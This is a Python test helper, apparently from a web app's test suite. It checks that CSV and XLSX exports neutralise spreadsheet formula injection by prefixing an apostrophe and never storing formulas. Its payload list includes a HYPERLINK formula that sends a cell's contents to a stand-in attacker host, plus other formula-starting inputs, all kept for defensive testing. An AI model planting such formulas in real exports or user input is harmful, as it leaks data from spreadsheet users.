"""Reading exports back as a spreadsheet program would, and the text an attacker would put in them."""

import csv
import io

from openpyxl import load_workbook

# What a member could type into a name, a need or a title to make a spreadsheet run it (issue 16).
PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&B2,"Open")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
# Survive str.strip(), for fields that are stripped on the way out (a person's full name).
PRINTABLE_PAYLOADS = [payload for payload in PAYLOADS if not payload[0].isspace()]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def read_csv(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline="")))


def read_xlsx(response):
    """The first sheet's cells (openpyxl Cell objects, so a test can check ``data_type``)."""
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body(response))).active
    return [list(row) for row in sheet.iter_rows()]


def column(rows, heading):
    """The values under ``heading`` (rows as lists of strings from read_csv)."""
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


def assert_csv_neutralised(rows, payloads=PAYLOADS):
    """Each payload comes back with a leading apostrophe, and no cell could start a formula."""
    cells = [cell for row in rows for cell in row]
    missing = [payload for payload in payloads if "'" + payload not in cells]
    assert missing == [], f"not neutralised: {missing!r}"
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert live == [], f"would run as formulas: {live!r}"


def assert_xlsx_neutralised(rows, payloads=PAYLOADS):
    """As for CSV, and every such cell is stored as a string, never a formula."""
    cells = [cell for row in rows for cell in row]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    # XML reads a carriage return back as a line feed; what matters is the apostrophe before it.
    missing = [payload for payload in payloads if "'" + payload.replace("\r", "\n") not in texts]
    assert missing == [], f"not neutralised: {missing!r}"
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert formulas == [], f"stored as formulas: {formulas!r}"
    live = [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)]
    assert live == [], f"would run as formulas: {live!r}"
